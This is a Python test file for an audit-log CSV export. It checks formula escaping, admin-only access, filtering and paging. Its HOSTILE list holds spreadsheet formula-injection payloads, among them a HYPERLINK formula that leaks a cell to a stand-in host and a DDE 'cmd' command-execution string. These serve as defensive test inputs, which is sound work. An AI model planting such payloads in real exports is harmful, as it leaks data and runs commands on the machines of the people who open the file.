"""The audit log as CSV (``GET /api/audit.csv``, the audit page's download): the filtered events only, newest
first, and no cell a spreadsheet would run as a formula, whatever someone managed to put in the log."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
import pytest_asyncio

from access.errors import Refusal, RefusalKind
from access.types import AuditEntry
from starter.api.app import create_app
from starter.services import audit
from store import catalog
from store.audit_log import append_audit
from store.db import session_scope
from store.settings import Settings
from store.tables import User
from tests.conftest import make_settings

ADMIN = "ada@example.com"
AS_ADMIN = {"X-Forwarded-Email": ADMIN}
T0 = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)

HOSTILE = [
    "=1+1",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '   =HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
]
"""What an attacker would type where it ends up in the log: a justification, a comment, a name."""


@pytest.fixture
def settings(tmp_path: Path, app_db: str) -> Settings:
    """The demo organisation, no Temporal behind it: exporting reads the app DB only."""
    return make_settings(tmp_path, "127.0.0.1:1", database_url=app_db)


def _append(settings: Settings, *entries: AuditEntry) -> None:
    with session_scope(settings.db_url) as session:
        append_audit(session, list(entries))


def _admin(settings: Settings) -> User:
    with session_scope(settings.db_url, write=False) as session:
        found = catalog.find_user(session, ADMIN)
    assert found is not None
    return found


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_no_cell_starts_a_formula(settings: Settings) -> None:
    _append(
        settings,
        *[
            AuditEntry(actor=value, action="request.created", target=value, reason=value, details={"comment": value})
            for value in HOSTILE
        ],
        AuditEntry(actor="alan@example.com", action="request.created", target="ledger/prod-db/read", reason="fine"),
    )
    text = "".join(audit.audit_csv(settings, _admin(settings), target=None, actor=None, action=None))
    rows = _rows(text)
    assert [row["reason"] for row in rows] == ["fine", *[f"'{value}" for value in reversed(HOSTILE)]]
    for row, value in zip(rows[1:], reversed(HOSTILE), strict=True):
        assert row["actor"] == row["target"] == row["reason"] == f"'{value}"  # kept whole, after the quote
        assert row["details"].startswith("{")  # JSON: no formula at its start, the comment within it
    # The benign row is as it was, and nothing a spreadsheet reads starts a formula.
    assert (rows[0]["actor"], rows[0]["target"]) == ("alan@example.com", "ledger/prod-db/read")
    for row in rows:
        for cell in row.values():
            assert not cell.lstrip().startswith(("=", "+", "-", "@")) and not cell.startswith(("\t", "\r")), cell
    # Every cell quoted: a comma or a line break inside one never makes another cell.
    first_line = text.split("\r\n", 1)[0]
    assert first_line == '"id","at","actor","action","target","reason","details","key_id"'


def test_a_non_admin_gets_no_csv(settings: Settings) -> None:
    with session_scope(settings.db_url, write=False) as session:
        alan = catalog.find_user(session, "alan@example.com")
    assert alan is not None
    with pytest.raises(Refusal) as refused:
        audit.audit_csv(settings, alan, target=None, actor=None, action=None)  # at once, before any row is read
    assert refused.value.kind is RefusalKind.FORBIDDEN


@pytest_asyncio.fixture
async def http(settings: Settings) -> AsyncIterator[httpx.AsyncClient]:
    app = create_app(settings, client=None)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://lapse.test") as client:
        yield client


def _log(settings: Settings) -> None:
    """Six events an hour apart from T0: alan and linus, requests and decisions."""
    who = ["alan@example.com", "linus@example.com"]
    _append(
        settings,
        *[
            AuditEntry(
                actor=who[n % 2],
                action="request.created" if n < 4 else "request.approved",
                target=f"access-request-r{n}",
                reason=f"=evil({n})",
                at=T0 + timedelta(hours=n),
            )
            for n in range(6)
        ],
    )


async def test_the_csv_holds_the_filtered_events_only(http: httpx.AsyncClient, settings: Settings) -> None:
    _log(settings)
    params = {"actor": "Alan@Example.com", "action": "request.created"}
    response = await http.get("/api/audit.csv", params=params, headers=AS_ADMIN)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="lapse-audit.csv"'
    rows = _rows(response.text)
    assert [(r["actor"], r["action"], r["target"]) for r in rows] == [
        ("alan@example.com", "request.created", "access-request-r2"),
        ("alan@example.com", "request.created", "access-request-r0"),
    ]
    assert {r["reason"] for r in rows} == {"'=evil(2)", "'=evil(0)"}
    listed = (await http.get("/api/audit", params=params, headers=AS_ADMIN)).json()
    assert [e["id"] for e in listed] == [int(r["id"]) for r in rows]  # the same events as the JSON list

    # A time range: from T0+1h (included) to T0+4h (not included); and the page's own download says the same.
    since, until = (T0 + timedelta(hours=1)).isoformat(), (T0 + timedelta(hours=4)).isoformat()
    ranged = await http.get("/api/audit.csv", params={"since": since, "until": until}, headers=AS_ADMIN)
    assert [r["target"] for r in _rows(ranged.text)] == ["access-request-r3", "access-request-r2", "access-request-r1"]
    page_params = {"since": "2026-03-01T10:00", "until": "2026-03-01T13:00"}  # as the form's fields send them, UTC
    from_page = await http.get("/admin/audit.csv", params=page_params, headers=AS_ADMIN)
    assert from_page.headers["content-disposition"].startswith("attachment")
    assert from_page.text == ranged.text

    limited = await http.get("/api/audit.csv", params={"limit": 2}, headers=AS_ADMIN)
    assert [r["target"] for r in _rows(limited.text)] == ["access-request-r5", "access-request-r4"]


async def test_the_csv_and_the_list_are_for_admins_and_refuse_bad_filters(http: httpx.AsyncClient) -> None:
    for path in ("/api/audit.csv", "/admin/audit.csv"):
        refused = await http.get(path, headers={"X-Forwarded-Email": "alan@example.com"})
        assert refused.status_code == 403 and "text/csv" not in refused.headers["content-type"]
    bad = await http.get("/api/audit.csv", params={"since": "yesterday"}, headers=AS_ADMIN)
    assert bad.status_code == 422 and bad.json()["field"] == "since"
    bad = await http.get("/admin/audit.csv", params={"until": "soon"}, headers=AS_ADMIN)
    assert bad.status_code == 422 and "until" in bad.text


async def test_the_list_pages_by_keyset(http: httpx.AsyncClient, settings: Settings) -> None:
    _log(settings)
    first = (await http.get("/api/audit", params={"limit": 4}, headers=AS_ADMIN)).json()
    rest = (await http.get("/api/audit", params={"limit": 4, "before": first[-1]["id"]}, headers=AS_ADMIN)).json()
    ids = [e["id"] for e in first + rest]
    assert ids == sorted(ids, reverse=True) and len(set(ids)) == len(ids) == 6
